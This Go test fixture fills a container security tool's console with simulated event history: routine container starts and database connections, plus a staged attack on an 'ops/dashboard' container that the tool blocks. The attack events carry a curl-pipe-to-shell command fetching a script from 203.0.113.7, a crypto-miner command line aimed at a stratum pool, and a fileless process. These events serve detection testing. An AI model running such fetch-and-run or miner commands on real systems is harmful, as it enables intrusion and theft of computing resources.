package consoletest

import (
	"context"
	"fmt"
	"net/netip"
	"time"

	"github.com/gabion-dev/gabion/event"
	"github.com/gabion-dev/gabion/workload"
)

// history fills the store with the last three hours: an attack on the careless
// dashboard, a surprise in shop/web, and the hum of an ordinary day.
func history(now time.Time, m *Memory) {
	var all []event.Event
	add := func(ago time.Duration, e event.Event) {
		e.ID = fmt.Sprintf("ev-%03d", len(all)+1)
		e.Last = now.Add(-ago).UTC()
		if e.First.IsZero() {
			e.First = e.Last
		}
		e.Count = max(e.Count, 1)
		e.Node = "dock-1"
		all = append(all, e)
	}
	ref := func(ns, name string) workload.Ref {
		return workload.Ref{Namespace: ns, Name: name, Kind: "Deployment"}
	}
	dash := func(e event.Event) event.Event {
		e.Workload, e.ContainerID, e.Container, e.Image = ref("ops", "dashboard"), id("opsdashboard"), "dashboard", "registry.ops.example/careless/dashboard:latest"
		e.Mode, e.Verdict, e.Effect = "Protect", event.Deny, event.Blocked
		return e
	}
	rule := func(policy, field, file string, line int) *event.RuleRef {
		return &event.RuleRef{Policy: policy, Field: field, File: file, Line: line}
	}
	add(3*time.Hour, event.Event{Kind: event.AgentHealth, Severity: event.Info, Message: "Gabion v0.1.0 started on dock-1"})
	for i, name := range []string{"checkout", "web", "cart", "catalog", "mailer", "payments", "search", "sessions"} {
		add(178*time.Minute-time.Duration(i)*20*time.Second, event.Event{Kind: event.ContainerStart, Severity: event.Info,
			Message: "Container " + name + " started and is covered", Workload: ref("shop", name), Container: name})
		add(170*time.Minute-time.Duration(i*17)*time.Minute, event.Event{Kind: event.ProcessExec, Severity: event.Info, Effect: event.Observed, Verdict: event.Allow, Mode: "Monitor",
			Message: "/app/" + name + " was started for the first time", Workload: ref("shop", name), Container: name, Path: "/app/" + name, Count: uint64(3 + i),
			Process: &event.Process{PID: 3000 + i, UID: 1000, Exe: "/app/" + name, ParentExe: "/usr/bin/tini"}, Mechanism: "raw_tp+kill"})
		add(150*time.Minute-time.Duration(i*16)*time.Minute, event.Event{Kind: event.NetworkConnect, Severity: event.Info, Effect: event.Observed, Verdict: event.Allow, Mode: "Monitor",
			Message: name + " connected to data/orders-db on tcp/5432", Workload: ref("shop", name), Container: name, Count: uint64(11 * (i + 1)),
			Peer: &event.Peer{Addr: netip.MustParseAddr("10.88.0.20"), Port: 5432, Protocol: "tcp", Workload: ref("data", "orders-db")}, Mechanism: "cgroup/connect"})
	}
	add(2*time.Hour, event.Event{Kind: event.AgentHealth, Severity: event.Medium, Message: "Firewall is degraded: ops/node-exporter uses the host's network", Workload: ref("ops", "node-exporter")})
	add(95*time.Minute, event.Event{Kind: event.PolicyChange, Severity: event.Low, Message: "Policy WorkloadPolicy/ops/dashboard was loaded from policies/ops.yaml", Actor: "folder"})
	add(90*time.Minute, event.Event{Kind: event.PolicyPromote, Severity: event.Low, Message: "Policy WorkloadPolicy/ops/dashboard is in Protect now", Actor: "alice"})
	add(90*time.Minute, event.Event{Kind: event.AgentLoss, Severity: event.Medium, Message: "12 first-seen observations of data/orders-db were dropped; they are reported again when seen again", Workload: ref("data", "orders-db"), Count: 12})

	add(42*time.Minute, dash(event.Event{Kind: event.ProcessExec, Severity: event.High, Message: "/bin/sh was stopped before it ran: shells are denied",
		Path: "/bin/busybox", Reasons: []string{"denied"}, Technique: []string{"T1059"}, Mechanism: "raw_tp+kill",
		Process:  &event.Process{PID: 4411, PPID: 2322, UID: 0, Exe: "/bin/busybox", Args: []string{"sh", "-c", "curl http://203.0.113.7/x.sh | sh"}, ParentExe: "/srv/dashboard", ParentArgs: []string{"/srv/dashboard", "--open"}},
		Rule:     rule("WorkloadPolicy/ops/dashboard", "spec.process.deny[0]", "policies/ops.yaml", 9),
		Evidence: map[string]string{"applet": "sh", "class": "shell"}}))
	add(41*time.Minute, dash(event.Event{Kind: event.ProcessDrift, Severity: event.Critical, Message: "/tmp/.X11/kworkerd was stopped before it ran: it is not in the image", Count: 38, First: now.Add(-41 * time.Minute).UTC(),
		Path: "/tmp/.X11/kworkerd", Reasons: []string{"drift"}, Technique: []string{"T1105", "T1036"}, Mechanism: "raw_tp+kill",
		Process:  &event.Process{PID: 4419, PPID: 2322, UID: 0, Exe: "/tmp/.X11/kworkerd", Args: []string{"kworkerd", "--threads=1", "--url", "stratum+tcp://198.51.100.9:3333"}, ParentExe: "/srv/dashboard"},
		Rule:     rule("WorkloadPolicy/ops/dashboard", "spec.process.drift", "policies/ops.yaml", 8),
		Evidence: map[string]string{"inImage": "false", "inode": "overlay upper"}}))
	add(40*time.Minute, dash(event.Event{Kind: event.ProcessFileless, Severity: event.Critical, Message: "A program that lives only in memory was stopped before it ran",
		Path: "memfd:x", Reasons: []string{"fileless"}, Technique: []string{"T1620"}, Mechanism: "raw_tp+kill",
		Process: &event.Process{PID: 4430, PPID: 2322, UID: 0, Exe: "/memfd:x (deleted)", ParentExe: "/srv/dashboard"},
		Rule:    rule("WorkloadPolicy/ops/dashboard", "spec.process.drift", "policies/ops.yaml", 8)}))
	add(39*time.Minute, dash(event.Event{Kind: event.NetworkConnect, Severity: event.High, Message: "A connection to 198.51.100.9 on tcp/3333 was refused: the Internet is denied", Count: 7, First: now.Add(-40 * time.Minute).UTC(),
		Reasons: []string{"denied"}, Technique: []string{"T1496"}, Mechanism: "cgroup/connect",
		Peer:    &event.Peer{Addr: netip.MustParseAddr("198.51.100.9"), Port: 3333, Protocol: "tcp"},
		Process: &event.Process{PID: 2322, UID: 0, Exe: "/srv/dashboard"},
		Rule:    rule("WorkloadPolicy/ops/dashboard", "spec.network.deny.egress[0]", "policies/ops.yaml", 13)}))
	add(38*time.Minute, event.Event{Kind: event.ResponseAction, Severity: event.High, Message: "Container dashboard was cut off from every network for 10 minutes",
		Workload: ref("ops", "dashboard"), ContainerID: id("opsdashboard"), Container: "dashboard", Actor: "ResponsePolicy/quarantine-miners", Mechanism: "respond", Technique: []string{"T1496"}})
	add(28*time.Minute, event.Event{Kind: event.ResponseAction, Severity: event.Info, Message: "Container dashboard has its network back",
		Workload: ref("ops", "dashboard"), ContainerID: id("opsdashboard"), Container: "dashboard", Actor: "ResponsePolicy/quarantine-miners", Mechanism: "respond"})
	add(8*time.Minute, event.Event{Kind: event.ProcessExec, Severity: event.Medium, Message: "/bin/dash would have been blocked: shells are denied", Count: 3, First: now.Add(-9 * time.Minute).UTC(),
		Workload: ref("shop", "web"), ContainerID: id("shopweb-5b7cd-kk2p9"), Container: "web-5b7cd-kk2p9", Image: "registry.shop.example/web:5.2.0", Mode: "Monitor",
		Verdict: event.Deny, Effect: event.WouldBlock, Path: "/bin/dash", Reasons: []string{"denied"}, Technique: []string{"T1059"}, Mechanism: "raw_tp+kill",
		Process: &event.Process{PID: 5120, UID: 101, Exe: "/bin/dash", Args: []string{"/bin/sh", "/usr/local/bin/rotate-logs"}, ParentExe: "/usr/sbin/nginx"},
		Rule:    rule("WorkloadPolicy/shop/web", "spec.process.deny[0]", "policies/web.yaml", 13)})
	add(6*time.Minute, event.Event{Kind: event.NetworkConnect, Severity: event.High, Message: "A connection to 10.88.0.31 on tcp/9090 was refused: not in the list", Count: 2,
		Workload: ref("shop", "checkout"), ContainerID: id("shopcheckout-7d9f4-x2k8q"), Container: "checkout-7d9f4-x2k8q", Image: "registry.shop.example/checkout:2.14.1", Mode: "Protect",
		Verdict: event.Deny, Effect: event.Blocked, Reasons: []string{"not-listed"}, Mechanism: "cgroup/connect",
		Peer: &event.Peer{Addr: netip.MustParseAddr("10.88.0.31"), Port: 9090, Protocol: "tcp", Workload: ref("ops", "dashboard")},
		Rule: rule("WorkloadPolicy/shop/checkout", "spec.network.egress", "policies/checkout.yaml", 18)})
	add(5*time.Minute, event.Event{Kind: event.ConsoleAccess, Severity: event.Info, Verdict: event.Allow, Effect: event.Observed, Message: "alice signed in with a password", Actor: "alice", Reasons: []string{"signed-in"}})
	if _, err := m.Append(context.Background(), all); err != nil {
		return // Memory.Append does not fail
	}
}
